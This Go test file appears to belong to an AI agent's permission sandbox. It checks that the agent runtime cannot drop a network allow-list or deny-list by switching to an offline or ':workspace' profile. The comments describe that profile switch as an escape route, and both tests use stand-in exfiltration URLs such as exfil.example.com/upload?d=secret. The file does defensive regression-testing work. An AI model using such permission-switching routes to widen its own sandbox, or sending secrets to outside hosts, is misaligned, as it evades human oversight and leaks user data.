package tests

import (
	"net/http"
	"testing"
)

// TestAttack177RuntimeDropsOfflineAllowList: the hundred-and-seventy-
// seventh review, against review 176's fix. A profile whose network is off
// now keeps its allow-list and denied domains ("disabled until granted",
// judged against them), and a fetch of a host outside them is refused
// before anyone is asked. But the check that a change of the turn's
// permissions widens (domain.Widens, SandboxNarrows seen backwards) still
// compares two disabled networks by their unix sockets and lock alone
// (networkNarrows): a change from the offline profile to one whose
// network is off with no list (":workspace", or the mode
// auto_accept_edits) is not a widening, so the runtime (the agent's own
// credential, which may narrow but not widen: turn.widen_profile) makes
// it, and every host, the denied one included, is then asked of a person
// (and fetched once allowed).
//
// Controls: before the change the fetch of the denied host is refused
// host_denied; the runtime's change to ":danger-full-access" (a widening)
// is refused 403; a fetch of the listed host asks.
func TestAttack177RuntimeDropsOfflineAllowList(t *testing.T) {
	t.Parallel()
	s, runtime, root := profileRuntime(t, `
[permissions.offline]
extends = ":workspace"
[permissions.offline.network]
enabled = false
[permissions.offline.network.domains]
"docs.example.org" = "allow"
"exfil.example.com" = "deny"
`)
	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "off", "workspace_id": "ws", "thread_id": "th",
		"permission_profile": map[string]any{"profile": "offline"}, "workspace_root": root}, http.StatusCreated, nil)

	evil := map[string]any{"url": "https://exfil.example.com/upload?d=secret"}
	if d := runtime.decide("off", "f1", "web_fetch", evil); d.Decision != "deny" || d.Refusal != "host_denied" {
		t.Fatalf("control: under the offline profile a fetch of the denied host: %+v, want deny host_denied", d)
	}
	if d := runtime.decide("off", "f0", "web_fetch", map[string]any{"url": "https://docs.example.org/"}); d.Decision != "ask" {
		t.Fatalf("control: a fetch of the listed host asks: %+v", d)
	}
	if st, b := runtime.Request("POST", "/v1/turns/off/permissions", map[string]any{"permission_profile": map[string]any{"profile": ":danger-full-access"}}); st != http.StatusForbidden {
		t.Fatalf("control: the runtime's widening to :danger-full-access: %d %s, want 403", st, b)
	}
	for _, to := range []map[string]any{{"profile": ":workspace"}, {"mode": "auto_accept_edits"}} {
		st, _ := runtime.Request("POST", "/v1/turns/off/permissions", map[string]any{"permission_profile": to})
		if st == http.StatusOK {
			t.Errorf("the runtime changed the offline turn to %v (dropping its network allow-list and denied domains): %d, want 403 turn.widen_profile", to, st)
			break
		}
	}
	d := runtime.decide("off", "f2", "web_fetch", evil)
	if d.Decision != "deny" {
		t.Errorf("after the runtime's change a fetch of the host the offline profile denied is %s (%s, request %v)", d.Decision, d.Reason, d.Request != nil)
	}
	if d.Request != nil {
		s.respond(d.Request.RequestID, "allow_once")
		if d := runtime.decide("off", "f2", "web_fetch", evil); d.Decision == "allow" {
			t.Errorf("and once a person allows it, the fetch of the denied host is allowed (%s)", d.Reason)
		}
	}
}

// TestAttack177RuntimeTradesAllowListForUntilGranted: the same comparison
// from the other side. Under a profile that keeps the network on, to an
// allow-list (a fetch of any other host is refused host_not_allowed
// before anyone is asked), the runtime changes the turn to ":workspace",
// whose network is "disabled until granted" with no list: a disabled
// network is stricter than a restricted one, so Widens calls it no
// widening and the runtime may make it, but Approvable opens a disabled
// network without a list to every host. A fetch of any host is then asked
// of a person, and runs once allowed.
//
// Controls: before the change, the fetch is refused host_not_allowed; the
// runtime's change to full_access is refused 403.
func TestAttack177RuntimeTradesAllowListForUntilGranted(t *testing.T) {
	t.Parallel()
	s, runtime, root := profileRuntime(t, `
[permissions.dev]
extends = ":workspace"
[permissions.dev.network]
enabled = true
[permissions.dev.network.domains]
"docs.example.org" = "allow"
`)
	runtime.JSON("POST", "/v1/turns", map[string]any{"turn_id": "dev", "workspace_id": "ws", "thread_id": "th",
		"permission_profile": map[string]any{"profile": "dev"}, "workspace_root": root}, http.StatusCreated, nil)
	evil := map[string]any{"url": "https://exfil.example.net/upload?d=secret"}
	if d := runtime.decide("dev", "f1", "web_fetch", evil); d.Decision != "deny" || d.Refusal != "host_not_allowed" {
		t.Fatalf("control: under the allow-list a fetch of another host: %+v, want deny host_not_allowed", d)
	}
	if st, _ := runtime.Request("POST", "/v1/turns/dev/permissions", map[string]any{"permission_profile": map[string]any{"mode": "full_access"}}); st != http.StatusForbidden {
		t.Fatalf("control: the runtime's widening to full_access: %d, want 403", st)
	}
	st, _ := runtime.Request("POST", "/v1/turns/dev/permissions", map[string]any{"permission_profile": map[string]any{"profile": ":workspace"}})
	if st == http.StatusOK {
		t.Errorf("the runtime changed the allow-listed turn to :workspace (network disabled until granted, no list): %d, want 403 turn.widen_profile", st)
	}
	d := runtime.decide("dev", "f2", "web_fetch", evil)
	if d.Decision != "deny" {
		t.Errorf("after the runtime's change a fetch of a host outside the old allow-list is %s (%s, request %v)", d.Decision, d.Reason, d.Request != nil)
	}
	if d.Request != nil {
		s.respond(d.Request.RequestID, "allow_once")
		if d := runtime.decide("dev", "f2", "web_fetch", evil); d.Decision == "allow" {
			t.Errorf("and once a person allows it, the fetch outside the allow-list is allowed (%s)", d.Reason)
		}
	}
}
